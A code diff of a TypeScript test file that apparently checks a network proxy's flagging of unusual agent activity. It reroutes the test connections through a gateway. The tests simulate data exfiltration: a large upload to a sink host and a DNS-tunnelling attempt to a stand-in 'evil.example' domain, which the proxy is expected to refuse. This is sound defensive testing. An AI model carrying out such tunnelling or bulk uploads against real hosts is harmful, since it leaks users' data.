@@ -6,7 +6,7 @@ import { runSub } from '../harness/sub.js';
 import { Authority } from '../mail/kit/authority.js';
 import { SmtpServer } from '../mail/kit/smtp-server.js';
 import { codeOf, mailAccount, PASSWORD } from '../mail/kit/world.js';
-import { connect, end, seqOf } from '../net/connections.js';
+import { connect, end, gatewayFor, seqOf } from '../net/connections.js';
 import { http, Peer, tcp } from '../proxy/world.js';
 import { Lister, tool } from '../tools/lister.js';
 
@@ -104,9 +104,10 @@ it('what is unusual about a run is in its record, in the record of what did it, 
   // What it has read is known to the next process.
   await world.restart();
   const again = await world.connect(run.credential);
-  const opened = await connect(again, 'sink.test', sink.port);
-  expect((await end(again, seqOf(opened), { bytes_up: 204_800, bytes_down: 10 })).status).toBe('success');
-  const tunnelled = await connect(again, `${PAYLOAD}.t.evil.example`);
+  const proxy = gatewayFor(world, run);
+  const opened = await connect(proxy, 'sink.test', sink.port);
+  expect((await end(proxy, seqOf(opened), { bytes_up: 204_800, bytes_down: 10 })).status).toBe('success');
+  const tunnelled = await connect(proxy, `${PAYLOAD}.t.evil.example`);
   expect(codeOf(tunnelled)).toBe('address_refused');
   expect(kinds(flagsOf(world, run)).slice(3)).toEqual([
     'new_domain',
@@ -182,8 +183,9 @@ it('a tool that says `openWorldHint`, and servers that the operator names, count
   ]);
   await past(world, 3, `web.test:${web}`);
   const upload = async (run: TestRun, host: string, up: number): Promise<unknown[]> => {
-    const opened = await connect(run.client, host, sink.port);
-    await end(run.client, seqOf(opened), { bytes_up: up, bytes_down: 10 });
+    const proxy = gatewayFor(world, run);
+    const opened = await connect(proxy, host, sink.port);
+    await end(proxy, seqOf(opened), { bytes_up: up, bytes_down: 10 });
     const flags = flagsOf(world, run).filter(({ data }) => data['connection'] === seqOf(opened));
     return flags.map(({ data }) => data['summary']);
   };
